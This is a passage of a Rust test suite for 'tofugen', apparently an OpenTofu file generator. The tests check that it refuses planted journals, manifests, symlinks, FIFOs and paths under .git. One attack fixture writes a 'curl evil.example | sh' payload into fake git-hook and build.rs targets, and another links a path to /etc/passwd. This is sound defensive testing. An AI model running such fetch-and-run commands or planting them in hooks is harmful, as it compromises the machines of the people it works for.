    use std::os::unix::ffi::OsStrExt as _;
    let c_path = std::ffi::CString::new(path.as_os_str().as_bytes()).unwrap();
    // SAFETY: `c_path` is a valid NUL-terminated string that outlives the call.
    let rc = unsafe { libc::mkfifo(c_path.as_ptr(), 0o600) };
    assert_eq!(rc, 0, "mkfifo {}", path.display());
}

#[test]
fn generated_files_outside_the_owned_set_are_refused_before_anything_is_written() {
    let dir = tempfile::tempdir().unwrap();
    for bad in [
        "README.md",
        "src/lib.rs",
        ".github/workflows/deploy.yml",
        ".github/workflows/tofugen-x.yaml",
        "schema/other.json",
        ".git/hooks/pre-commit",
        "generated/.git/config",
        "generated/x/.GIT/HEAD",
    ] {
        let files = tree(&[(bad, "x\n"), ("generated/ok.tf", "ok\n")]);
        for err in [
            generate(dir.path(), &files, true).unwrap_err(),
            check(dir.path(), &files).unwrap_err(),
        ] {
            let err = format!("{err:#}");
            assert!(err.contains(&format!("{bad:?}")), "{bad}: {err}");
            assert!(err.contains("tofugen bug"), "{bad}: {err}");
        }
        assert_eq!(besides_lock(dir.path()), 0, "{bad}");
    }
}

/// How many entries `dir` holds besides the lock file (`generate` takes the lock before the
/// files are emitted and checked, so it may be all a refused run leaves).
fn besides_lock(dir: &Path) -> usize {
    fs::read_dir(dir)
        .unwrap()
        .filter(|e| e.as_ref().unwrap().file_name() != LOCK_PATH)
        .count()
}

/// Given in batches, the tree is the same as given at once: same files, same manifest, same
/// summary; an up-to-date tree stages nothing.
#[test]
fn batches_write_the_same_tree_as_one_call() {
    let (one, many) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let a = big_tree("a");
    let s1 = generate(one.path(), &a, false).unwrap();
    let s2 = generate_in_batches(many.path(), &a, 3, false).unwrap();
    assert_eq!(s1, s2);
    assert_eq!(
        read(one.path(), MANIFEST_PATH),
        read(many.path(), MANIFEST_PATH)
    );
    for (p, c) in &a {
        assert_eq!(read(many.path(), p).as_deref(), Some(c.as_str()), "{p}");
    }
    let again = generate_in_batches(many.path(), &a, 3, false).unwrap();
    assert_eq!(again, "generated: 0 written, 40 unchanged, 0 removed");
    assert!(check(many.path(), &a).unwrap().is_empty());
    assert!(
        leftovers(many.path()).is_empty(),
        "{:?}",
        leftovers(many.path())
    );
}

/// Streaming stages the first batches' temp files before a later batch shows that the run must
/// be refused (a file edited by hand, or the size cap): the refusal deletes them and the
/// journal, and every file is as it was (content, inode, mtime; directories only gained and
/// lost the temp files, so their mtimes moved).
#[test]
fn a_run_refused_after_staging_leaves_the_tree_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let (a, b) = (big_tree("a"), big_tree("b"));
    generate(root, &a, false).unwrap();
    // The last file (in the last batch) edited by hand: every earlier batch is staged first.
    let last = a.keys().last().unwrap().clone();
    fs::write(root.join(&last), "edited\n").unwrap();
    let before = files_of(root);
    let err = format!("{:#}", generate_in_batches(root, &b, 7, false).unwrap_err());
    assert!(
        err.contains(&last) && err.contains("edited by hand"),
        "{err}"
    );
    assert!(files_of(root) == before, "a file changed");
    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));

    // Over the size cap in a later batch.
    fs::write(root.join(&last), &a[&last]).unwrap();
    let before = files_of(root);
    let mut run = Generation::start(root, &OwnedPaths::default(), false).unwrap();
    run.add(vec![("generated/env0/file0.tf".into(), "changed\n".into())])
        .unwrap();
    let huge = "x".repeat(tofugen::write::MAX_GENERATED_BYTES);
    let err = format!(
        "{:#}",
        run.add(vec![("generated/huge.tf".into(), huge)])
            .unwrap_err()
    );
    assert!(err.contains("generates more than 20 MiB of files"), "{err}");
    drop(run);
    assert!(files_of(root) == before, "a file changed");
    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
}

/// The files of [`listing`] (directories left out).
fn files_of(dir: &Path) -> BTreeMap<String, (String, u64, i128, u64, Vec<u8>)> {
    listing(dir)
        .into_iter()
        .filter(|(_, (kind, ..))| !kind.contains("is_dir: true"))
        .collect()
}

/// Attack: manifest entries naming files outside the owned set, with their right hashes, so
/// they look like orphans to remove.
#[test]
fn manifest_entries_outside_the_owned_set_are_never_deleted() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let victims = [
        ("README.md", "# readme\n"),
        ("src/lib.rs", "fn main() {}\n"),
        ("schema/scaleway-provider-schema.json", "{}\n"),
        (".github/workflows/ci.yml", "name: ci\n"),
    ];
    plant(root, &victims);
    add_to_manifest(root, &victims);
    for force in [false, true] {
        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
        for (p, _) in victims {
            assert!(err.contains(&format!("{p:?}: outside the paths")), "{err}");
        }
        assert!(
            err.contains("never acted on") || err.contains("not acted on"),
            "{err}"
        );
    }
    let err = format!("{:#}", check(root, &v1()).unwrap_err());
    assert!(err.contains("\"README.md\""), "{err}");
    for (p, c) in victims {
        assert_eq!(read(root, p).as_deref(), Some(c), "{p}");
    }
}

/// Attack: manifest entries under `.git` (in any case, at any depth).
#[test]
fn manifest_entries_under_dot_git_are_never_deleted() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let victims = [
        (".git/config", "[core]\n"),
        (".git/hooks/pre-commit", "#!/bin/sh\n"),
        ("generated/.git/config", "[core]\n"),
        ("generated/x/.GIT/HEAD", "ref: refs/heads/main\n"),
    ];
    plant(root, &victims);
    add_to_manifest(root, &victims);
    for force in [false, true] {
        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
        for (p, _) in &victims[2..] {
            assert!(err.contains(&format!("{p:?}: paths under `.git`")), "{err}");
        }
    }
    assert!(check(root, &v1()).is_err());
    for (p, c) in victims {
        assert_eq!(read(root, p).as_deref(), Some(c), "{p}");
    }
}

/// `--force` overwrites what tofugen writes now, but never deletes a file it no longer
/// generates whose content is not what it wrote.
#[test]
fn force_never_deletes_an_orphan_edited_by_hand() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    fs::write(root.join("generated/old/extra.tf"), "# mine now\n").unwrap();
    let summary = generate(root, &v2(), true).unwrap();
    assert!(summary.contains("0 removed"), "{summary}");
    assert!(
        summary.contains("left in place, no longer generated but edited by hand"),
        "{summary}"
    );
    assert!(summary.contains("generated/old/extra.tf"), "{summary}");
    assert_eq!(
        read(root, "generated/old/extra.tf").as_deref(),
        Some("# mine now\n")
    );
}

/// A crash between the commit and a removal, then a hand edit: the removal is hash-checked
/// right before deleting, on roll-forward too.
#[test]
fn a_removal_on_roll_forward_is_hash_checked() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    // v1 → v2 writes 3 files and the manifest, then removes one: stop before the removal.
    assert!(generate_interrupted(root, &v2(), false, Interrupt::AfterOps(4)).unwrap());
    fs::write(
        root.join("generated/old/extra.tf"),
        "# edited after the crash\n",
    )
    .unwrap();
    let summary = generate(root, &v2(), false).unwrap();
    assert!(
        summary.contains("completed an interrupted run first"),
        "{summary}"
    );
    assert!(summary.contains("left in place"), "{summary}");
    assert_eq!(
        read(root, "generated/old/extra.tf").as_deref(),
        Some("# edited after the crash\n")
    );
    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
}

/// An I/O error past the commit point (some renames done, not all) cannot be undone: the error
/// says the tree mixes old and new files and names the journal that finishes it, `check` reports
/// the interrupted run, and the next `generate` completes the new tree.
#[test]
fn an_error_after_the_commit_point_says_the_tree_is_mixed_until_the_next_run() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let err = generate_interrupted(root, &v2(), false, Interrupt::FailAfterOps(1)).unwrap_err();
    let message = format!("{err:#}");
    assert!(message.contains("committed"), "{message}");
    assert!(
        message.contains("mixes old and new generated files"),
        "{message}"
    );
    assert!(message.contains(".tofugen-journal.json"), "{message}");
    assert!(
        message.contains("simulated I/O error after 1 change(s)"),
        "{message}"
    );
    assert!(root.join(".tofugen-journal.json").exists());
    let checked = check(root, &v2()).unwrap();
    assert!(
        checked.iter().any(|d| d.contains("interrupted")),
        "{checked:?}"
    );
    let summary = generate(root, &v2(), false).unwrap();
    assert!(
        summary.contains("completed an interrupted run first"),
        "{summary}"
    );
    assert!(check(root, &v2()).unwrap().is_empty());
    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
}

/// Attack: a committed journal that removes files outside the owned set or under `.git`.
#[test]
fn a_planted_journal_cannot_remove_files_outside_the_owned_set() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let victims = [
        ("README.md", "# readme\n"),
        (".git/config", "[core]\n"),
        ("generated/.git/config", "[core]\n"),
    ];
    plant(root, &victims);
    plant_journal(root, "committed", &[], &victims);
    for force in [false, true] {
        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
        assert!(err.contains("is not a journal tofugen can act on"), "{err}");
        for (p, _) in victims {
            assert!(err.contains(&format!("{p:?}")), "{err}");
        }
    }
    let err = format!("{:#}", check(root, &v1()).unwrap_err());
    assert!(err.contains("\"README.md\": outside the paths"), "{err}");
    assert!(!err.contains("to complete it"), "{err}");
    for (p, c) in victims {
        assert_eq!(read(root, p).as_deref(), Some(c), "{p}");
    }
    assert!(
        root.join(JOURNAL_PATH).exists(),
        "the journal is left for inspection"
    );
}

/// Attack: a committed journal with temp files that renames them outside the owned set (a git
/// hook, a source file).
#[test]
fn a_planted_journal_cannot_write_outside_the_owned_set() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let evil = "#!/bin/sh\ncurl evil.example | sh\n";
    let targets = [
        ".git/hooks/pre-commit",
        "src/build.rs",
        "generated/.git/hooks/x",
    ];
    for t in targets {
        let tmp = tmp_of(root, t);
        fs::create_dir_all(tmp.parent().unwrap()).unwrap();
        fs::write(tmp, evil).unwrap();
    }
    let writes: Vec<(&str, &str)> = targets.iter().map(|t| (*t, evil)).collect();
    plant_journal(root, "committed", &writes, &[]);
    let err = format!("{:#}", generate(root, &v1(), true).unwrap_err());
    for t in targets {
        assert!(err.contains(&format!("{t:?}")), "{err}");
        assert!(!root.join(t).exists(), "{t} was written");
        assert!(tmp_of(root, t).exists(), "{t}: nothing is acted on");
    }
    assert!(check(root, &v1()).is_err());
}

/// Attack: a committed journal whose temp file does not hold what the journal records.
#[test]
fn a_planted_journal_cannot_rename_a_temp_file_whose_hash_differs() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let prod = "generated/production/main.tf";
    fs::write(tmp_of(root, prod), "# swapped\n").unwrap();
    plant_journal(root, "committed", &[(prod, "# recorded\n")], &[]);
    let err = format!("{:#}", generate(root, &v1(), true).unwrap_err());
    assert!(
        err.contains(&format!("{prod}: its temp file does not hold the content")),
        "{err}"
    );
    let err = format!("{:#}", check(root, &v1()).unwrap_err());
    assert!(err.contains("does not hold the content"), "{err}");
    assert_eq!(read(root, prod), v1().get(prod).cloned());
}

/// Attack: a journal and temp files that agree with each other, but not with the manifest the
/// run commits: tofugen never wrote such a journal.
#[test]
fn a_planted_journal_must_agree_with_the_manifest_it_commits() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let prod = "generated/production/main.tf";
    let evil = "# evil\n";
    fs::write(tmp_of(root, prod), evil).unwrap();
    // Without a manifest write: the manifest on disk lists the old content.
    plant_journal(root, "committed", &[(prod, evil)], &[]);
    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
    assert!(
        err.contains(&format!(
            "{prod}: the manifest the run commits does not list it with this content"
        )),
        "{err}"
    );
    assert_eq!(read(root, prod), v1().get(prod).cloned());
    // With a manifest write whose new manifest does not list it either.
    let manifest = read(root, MANIFEST_PATH).unwrap();
    fs::write(tmp_of(root, MANIFEST_PATH), &manifest).unwrap();
    plant_journal(
        root,
        "committed",
        &[(prod, evil), (MANIFEST_PATH, &manifest)],
        &[],
    );
    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
    assert!(err.contains("does not list it with this content"), "{err}");
    assert!(check(root, &v1()).is_err());
    assert_eq!(read(root, prod), v1().get(prod).cloned());
    // A manifest that is not the last write, or that a journal removes, is refused too.
    plant_journal(
        root,
        "committed",
        &[(MANIFEST_PATH, &manifest), (prod, evil)],
        &[],
    );
    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
    assert!(err.contains("the manifest is written last"), "{err}");
}

/// Attack: a committed journal that removes the manifest (with its right hash).
#[test]
fn a_planted_journal_cannot_remove_the_manifest() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let manifest = read(root, MANIFEST_PATH).unwrap();
    plant_journal(root, "committed", &[], &[(MANIFEST_PATH, &manifest)]);
    // Without its manifest, the next change would find every file "not written by tofugen".
    let err = format!("{:#}", generate(root, &v2(), false).unwrap_err());
    assert!(err.contains("the manifest is never removed"), "{err}");
    assert_eq!(read(root, MANIFEST_PATH), Some(manifest));
}

/// Attack: a temp file that is a symlink (to a file outside the repository), renamed into
/// place it would make the generated file a link to anything.
#[test]
fn a_planted_journal_cannot_rename_a_symlink_into_place() {
    let outer = tempfile::tempdir().unwrap();
    let root = outer.path().join("repo");
    fs::create_dir(&root).unwrap();
    generate(&root, &v1(), false).unwrap();
    let secret = outer.path().join("secret");
    fs::write(&secret, "# evil\n").unwrap();
    let prod = "generated/production/main.tf";
    symlink(&secret, tmp_of(&root, prod)).unwrap();
    plant_journal(&root, "committed", &[(prod, "# evil\n")], &[]);
    let err = format!("{:#}", generate(&root, &v1(), true).unwrap_err());
    assert!(err.contains("is a symlink, not a regular file"), "{err}");
    assert!(fs::symlink_metadata(root.join(prod)).unwrap().is_file());
    assert_eq!(read(&root, prod), v1().get(prod).cloned());
}

/// Attack: the same path twice, or a hash that is not a sha256.
#[test]
fn a_journal_with_duplicate_or_malformed_entries_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let prod = "generated/production/main.tf";
    plant_journal(root, "prepared", &[(prod, "a")], &[(prod, "a")]);
    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
    assert!(err.contains("listed more than once"), "{err}");
    let journal = format!(
        r#"{{"format":2,"state":"prepared","writes":[{{"path":"{prod}","sha256":"xyz"}}],"removes":[]}}"#
    );
    fs::write(root.join(JOURNAL_PATH), journal).unwrap();
    let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
    assert!(err.contains("`xyz` is not a sha256"), "{err}");
    let err = format!("{:#}", check(root, &v1()).unwrap_err());
    assert!(err.contains("`xyz` is not a sha256"), "{err}");
}

/// Attack: a symlinked directory inside the owned set that leads out of it (to `.git`), and a
/// manifest entry through it with the right hash.
#[test]
fn symlinked_directories_cannot_lead_outside_the_owned_set() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let description = "Unnamed repository; edit this file 'description' to name the repository.\n";
    plant(root, &[(".git/description", description)]);
    symlink("../.git", root.join("generated/x")).unwrap();
    add_to_manifest(root, &[("generated/x/description", description)]);
    for force in [false, true] {
        let err = format!("{:#}", generate(root, &v1(), force).unwrap_err());
        assert!(
            err.contains("the symlink `generated/x` (it points to `.git`)"),
            "{err}"
        );
    }
    assert!(check(root, &v1()).is_err());
    assert_eq!(read(root, ".git/description").as_deref(), Some(description));
    // Writing through it is refused the same way.
    let files = tree(&[("generated/x/hooks/pre-commit", "evil\n")]);
    assert!(generate(root, &files, true).is_err());
    assert!(!root.join(".git/hooks").exists());
}

/// A journal or manifest that is a FIFO is refused without blocking (an open for reading
/// would wait for a writer forever).
#[test]
fn bookkeeping_files_that_are_fifos_are_refused_without_blocking() {
    for name in [JOURNAL_PATH, MANIFEST_PATH] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().to_path_buf();
        generate(&root, &v1(), false).unwrap();
        fs::remove_file(root.join(name)).ok();
        mkfifo(&root.join(name));
        let r = root.clone();
        let err = within_10s("generate", move || {
            generate(&r, &v1(), true).map_err(|e| format!("{e:#}"))
        });
        let err = err.unwrap_err();
        assert!(err.contains("is a FIFO (named pipe)"), "{name}: {err}");
        let r = root.clone();
        let err = within_10s("check", move || {
            check(&r, &v1()).map_err(|e| format!("{e:#}"))
        });
        assert!(err.unwrap_err().contains("FIFO"), "{name}");
    }
}

#[test]
fn a_lock_file_that_is_not_a_regular_file_is_refused_without_blocking() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    generate(&root, &v1(), false).unwrap();
    let lock = root.join(LOCK_PATH);
    let outside = tempfile::NamedTempFile::new().unwrap();
    type Make = Box<dyn Fn(&Path)>;
    let cases: [(&str, Make); 3] = [
        ("FIFO (named pipe)", Box::new(mkfifo)),
        ("directory", Box::new(|p: &Path| fs::create_dir(p).unwrap())),
        (
            "symlink",
            Box::new(move |p: &Path| symlink(outside.path(), p).unwrap()),
        ),
    ];
    for (kind, make) in cases {
        fs::remove_file(&lock)
            .or_else(|_| fs::remove_dir(&lock))
            .unwrap();
        make(&lock);
        for which in ["generate", "check"] {
            let r = root.clone();
            let err = within_10s(which, move || {
                let out = if which == "generate" {
                    generate(&r, &v1(), false).map(drop)
                } else {
                    check(&r, &v1()).map(drop)
                };
                format!("{:#}", out.unwrap_err())
            });
            assert!(
                err.contains(&format!(
                    "the lock file {LOCK_PATH} is a {kind}, not a regular file"
                )),
                "{which} {kind}: {err}"
            );
        }
    }
    fs::remove_dir(&lock).ok();
    fs::remove_file(&lock).ok();
    generate(&root, &v2(), false).unwrap();
}

/// The lock file deleted while a run holds it: later runs create a new one and work.
#[test]
fn a_lock_file_deleted_mid_run_does_not_wedge_the_repository() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    // A run in progress holds the lock; then someone deletes the file.
    let held = fs::File::open(root.join(LOCK_PATH)).unwrap();
    held.try_lock().unwrap();
    fs::remove_file(root.join(LOCK_PATH)).unwrap();
    assert!(check(root, &v1()).unwrap().is_empty());
    generate(root, &v2(), false).unwrap();
    drop(held);
    // A run interrupted, its lock file deleted: the next run completes it.
    assert!(generate_interrupted(root, &v1(), false, Interrupt::AfterOps(2)).unwrap());
    fs::remove_file(root.join(LOCK_PATH)).unwrap();
    let summary = generate(root, &v1(), false).unwrap();
    assert!(
        summary.ends_with("completed an interrupted run first"),
        "{summary}"
    );
    assert!(check(root, &v1()).unwrap().is_empty());
    assert!(root.join(LOCK_PATH).is_file());
}

/// `check` verifies a journal before it suggests `generate` to complete it.
#[test]
fn check_verifies_a_journal_before_suggesting_generate() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    assert!(generate_interrupted(root, &v2(), false, Interrupt::AfterOps(1)).unwrap());
    let report = check(root, &v2()).unwrap();
    assert!(
        report[0].contains("run `tofugen generate` to complete it"),
        "{report:#?}"
    );
    // A temp file swapped since: check says exactly what is wrong, and not to run generate.
    let schema = "schema/environments.schema.json";
    fs::write(tmp_of(root, schema), "{\"evil\": true}\n").unwrap();
    let err = format!("{:#}", check(root, &v2()).unwrap_err());
    assert!(
        err.contains(&format!(
            "{schema}: its temp file does not hold the content"
        )),
        "{err}"
    );
    assert!(!err.contains("to complete it"), "{err}");
    assert!(generate(root, &v2(), false).is_err());
    assert!(!root.join(schema).exists(), "nothing was renamed");
}

/// The generated tree is capped in files and bytes: a clear error, nothing written.
#[test]
fn a_generated_tree_over_the_size_limits_is_refused() {
    use tofugen::write::{MAX_GENERATED_BYTES, MAX_GENERATED_FILES};
    let dir = tempfile::tempdir().unwrap();
    let many: BTreeMap<String, String> = (0..=MAX_GENERATED_FILES)
        .map(|i| (format!("generated/f{i}.tf"), String::new()))
        .collect();
    let huge = tree(&[("generated/big.tf", &"x".repeat(MAX_GENERATED_BYTES + 1))]);
    for files in [many, huge] {
        for err in [
            generate(dir.path(), &files, true).unwrap_err(),
            check(dir.path(), &files).unwrap_err(),
        ] {
            let err = format!("{err:#}");
            assert!(
                err.contains("generates more than 10000 files")
                    || err.contains("generates more than 20 MiB of files"),
                "{err}"
            );
        }
        // Only the lock (taken before the files are emitted, so the cap stops the emission
        // early): no generated file, no temp file, no journal.
        let left: Vec<String> = fs::read_dir(dir.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert!(left.iter().all(|n| n == ".tofugen.lock"), "{left:?}");
    }
}

/// A FIFO where a generated file goes is reported by `check` and refused by `generate`, and
/// never opened (opening it for reading would block).
#[test]
fn a_fifo_where_a_generated_file_goes_is_reported_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().to_path_buf();
    generate(&root, &v1(), false).unwrap();
    let prod = "generated/production/main.tf";
    fs::remove_file(root.join(prod)).unwrap();
    mkfifo(&root.join(prod));
    let r = root.clone();
    let report = within_10s("check", move || check(&r, &v1()).unwrap());
    assert!(
        report.concat().contains(&format!(
            "{prod}: is a FIFO (named pipe), not a regular file"
        )),
        "{report:#?}"
    );
    let r = root.clone();
    let err = within_10s("generate", move || {
        format!("{:#}", generate(&r, &v1(), true).unwrap_err())
    });
    assert!(
        err.contains(&format!("{prod}: is a FIFO (named pipe)")),
        "{err}"
    );
}

/// A file under `generated/` that tofugen never wrote is a finding of `check` (OpenTofu would
/// load a `.tf` file with the generated root), never deleted by `generate`; OpenTofu's own local
/// artifacts are not findings.
#[test]
fn check_reports_files_tofugen_did_not_write_under_generated() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let files = tree(&[
        ("generated/staging/main.tf", "# staging\n"),
        ("generated/staging/alerts/a.yml", "groups: []\n"),
    ]);
    generate(root, &files, false).unwrap();
    assert!(check(root, &files).unwrap().is_empty());
    for (path, content) in [
        ("generated/staging/.terraform/providers/p", "x"),
        ("generated/staging/.terraform.lock.hcl", "# lock\n"),
        ("generated/staging/release.tfplan", "plan"),
        ("generated/bootstrap/terraform.tfstate", "{}"),
    ] {
        fs::create_dir_all(root.join(path).parent().unwrap()).unwrap();
        fs::write(root.join(path), content).unwrap();
    }
    assert!(check(root, &files).unwrap().is_empty());
    fs::write(
        root.join("generated/staging/evil.tf"),
        "resource \"x\" \"y\" {}\n",
    )
    .unwrap();
    fs::write(
        root.join("generated/staging/alerts/extra.yml"),
        "groups: []\n",
    )
    .unwrap();
    symlink("/etc/passwd", root.join("generated/staging/link.tf")).unwrap();
    let report = check(root, &files).unwrap();
    assert_eq!(report.len(), 3, "{report:#?}");
    assert!(report[0].starts_with("generated/staging/alerts/extra.yml: not written by tofugen"));
    assert!(
        report[0].trim_end().ends_with(
            "; delete or move it (tofugen never deletes a file it did not write); changes to the \
             generated tree belong in the configuration"
        ),
        "{report:#?}"
    );
    assert!(report[1].starts_with("generated/staging/evil.tf: not written by tofugen: OpenTofu"));
    assert!(report[2].starts_with("generated/staging/link.tf: not written by tofugen"));
    generate(root, &files, false).unwrap();
    assert!(root.join("generated/staging/evil.tf").exists());
    let kinds: Vec<_> = tofugen::write::check(root, &files)
        .unwrap()
        .iter()
        .map(|d| d.kind.code())
        .collect();
    assert_eq!(kinds, ["unknown-file"; 3]);
}

/// A missing manifest is rewritten, and the summary says so ("0 written" alone said nothing
/// was).
#[test]
fn a_rewritten_manifest_is_said() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let manifest = read(root, MANIFEST_PATH).unwrap();
    fs::remove_file(root.join(MANIFEST_PATH)).unwrap();
    let summary = generate(root, &v1(), false).unwrap();
    assert!(
        summary.ends_with("; the manifest was rewritten"),
        "{summary}"
    );
    assert_eq!(read(root, MANIFEST_PATH).unwrap(), manifest);
    let summary = generate(root, &v1(), false).unwrap();
    assert!(!summary.contains("manifest"), "{summary}");
}

/// The journal's temp file committed as a directory or a symlink: `check` passed, and every
/// `generate` failed, naming the journal (sweep 28, W1). Both now say what it is, and nothing
/// is written or followed.
#[test]
fn a_journal_temp_path_that_is_no_file_is_reported_by_check_and_generate() {
    let tmp = format!("{JOURNAL_PATH}.tofugen-tmp");
    for kind in ["directory", "symlink"] {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        generate(root, &v1(), false).unwrap();
        let outside = tempfile::tempdir().unwrap();
        match kind {
            "directory" => fs::create_dir(root.join(&tmp)).unwrap(),
            _ => std::os::unix::fs::symlink(outside.path().join("x"), root.join(&tmp)).unwrap(),
        }
        let expected = format!("{tmp} is a {kind}, where tofugen writes its journal's temp file");
        let err = format!("{:#}", check(root, &v1()).unwrap_err());
        assert!(err.contains(&expected), "{kind}: {err}");
        let err = format!("{:#}", generate(root, &v1(), false).unwrap_err());
        assert!(err.contains(&expected), "{kind}: {err}");
        assert!(!outside.path().join("x").exists());
        assert!(
            fs::symlink_metadata(root.join(&tmp)).is_ok(),
            "{kind}: left as it was"
        );
    }
}

/// A file OpenTofu reads as code or values is reported, whatever its name: one named as local
/// state (`terraform.tfstate.*`) passed `check`, in a vendored module or a root's `tests/`, and
/// OpenTofu loaded it (sweep 26, F1). The state files OpenTofu writes still pass.
#[test]
fn a_file_opentofu_reads_is_reported_even_named_as_local_state() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let files = v1();
    generate(root, &files, false).unwrap();
    let read = [
        "generated/modules/service/terraform.tfstate.tf",
        "generated/staging/terraform.tfstate.auto.tfvars",
        "generated/staging/tests/terraform.tfstate.x.tftest.hcl",
    ];
    let written = [
        "generated/staging/terraform.tfstate",
        "generated/staging/terraform.tfstate.backup",
        "generated/staging/terraform.tfstate.1764950400.backup",
    ];
    let planted: Vec<(&str, &str)> = read
        .iter()
        .chain(&written)
        .map(|p| (*p, "resource \"terraform_data\" \"x\" {}\n"))
        .collect();
    plant(root, &planted);
    let report = check(root, &files).unwrap();
    assert_eq!(report.len(), read.len(), "{report:#?}");
    for path in read {
        assert!(
            report
                .iter()
                .any(|line| line.starts_with(&format!("{path}: "))),
            "{path}: {report:#?}"
        );
    }
}

/// A hand-made workflow named as tofugen names its own (`tofugen-*.yml`) looks generated to
/// reviewers: `check` passed with one (found by an adversarial sweep). It is reported, and
/// `generate` leaves it in place and says so; a workflow of another name is not tofugen's.
#[test]
fn a_stray_workflow_with_a_tofugen_name_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let files = v1();
    generate(root, &files, false).unwrap();
    plant(
        root,
        &[
            (
                ".github/workflows/tofugen-deploy-hotfix.yml",
                "name: hotfix\n",
            ),
            // GitHub runs `.yaml` workflows too (sweep 36, attack F4: `check` passed).
            (
                ".github/workflows/tofugen-deploy-hotfix.yaml",
                "name: hotfix\n",
            ),
            // And names of other letter cases (sweep 26, F6: `check` passed).
            (".github/workflows/Tofugen-pr.yml", "name: pr\n"),
            (".github/workflows/TOFUGEN-X.YAML", "name: x\n"),
            (".github/workflows/ci.yml", "name: ci\n"),
            (".github/workflows/tofugen-notes.md", "notes\n"),
            (".github/workflows/Tofugen-notes.md", "notes\n"),
        ],
    );
    let report = check(root, &files).unwrap();
    assert_eq!(report.len(), 4, "{report:#?}");
    for (line, name) in report.iter().zip([
        "TOFUGEN-X.YAML",
        "Tofugen-pr.yml",
        "tofugen-deploy-hotfix.yaml",
        "tofugen-deploy-hotfix.yml",
    ]) {
        assert!(
            line.starts_with(&format!(
                ".github/workflows/{name}: not written by tofugen: its name is one tofugen gives"
            )) && line.trim_end().ends_with(
                "; rename it without the `tofugen-` prefix, or delete it (tofugen never deletes \
                 a file it did not write)"
            ),
            "{report:#?}"
        );
    }
    let summary = generate(root, &files, false).unwrap();
    assert!(
        summary.contains("left in place") && summary.contains("tofugen-deploy-hotfix.yml"),
        "{summary}"
    );
    assert_eq!(
        read(root, ".github/workflows/tofugen-deploy-hotfix.yml").as_deref(),
        Some("name: hotfix\n")
    );
    assert_eq!(
        read(root, ".github/workflows/tofugen-deploy-hotfix.yaml").as_deref(),
        Some("name: hotfix\n")
    );
}

/// New and changed files are staged a few MiB at a time (`STAGE_BYTES`): a smaller batch leaves
/// no temp file and no journal on disk until the final prepared journal lists it, and the run
/// still writes it.
#[test]
fn files_under_the_staging_size_wait_for_the_final_journal() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let mut run = Generation::start(root, &OwnedPaths::default(), false).unwrap();
    run.add(v2().into_iter().collect()).unwrap();
    let prod = "generated/production/main.tf";
    assert_ne!(v1().get(prod), v2().get(prod), "the batch changes {prod}");
    assert!(!tmp_of(root, prod).exists(), "nothing staged yet");
    assert!(!root.join(JOURNAL_PATH).exists(), "no journal yet");
    run.finish().unwrap();
    assert!(!root.join(JOURNAL_PATH).exists(), "journal left");
    assert_eq!(check(root, &v2()).unwrap(), Vec::<String>::new());
}

/// A temp file changed between the moment this run wrote it and its commit point (another
/// process writing in the tree): the run stops uncommitted, its temp files and journal are
/// deleted, and the tree on disk is the previous one.
#[test]
fn a_temp_file_changed_before_the_commit_point_stops_the_run_uncommitted() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let before = fs::read(root.join(MANIFEST_PATH)).unwrap();
    let mut run = Generation::start(root, &OwnedPaths::default(), false).unwrap();
    // A batch of STAGE_BYTES is staged as it is added, under a prepared journal.
    let mut batch: Vec<(String, String)> = v2().into_iter().collect();
    let padding = "generated/production/padding.md";
    batch.push((padding.to_string(), "x".repeat(STAGE_BYTES)));
    run.add(batch).unwrap();
    let prod = "generated/production/main.tf";
    assert!(tmp_of(root, prod).exists(), "the batch is staged");
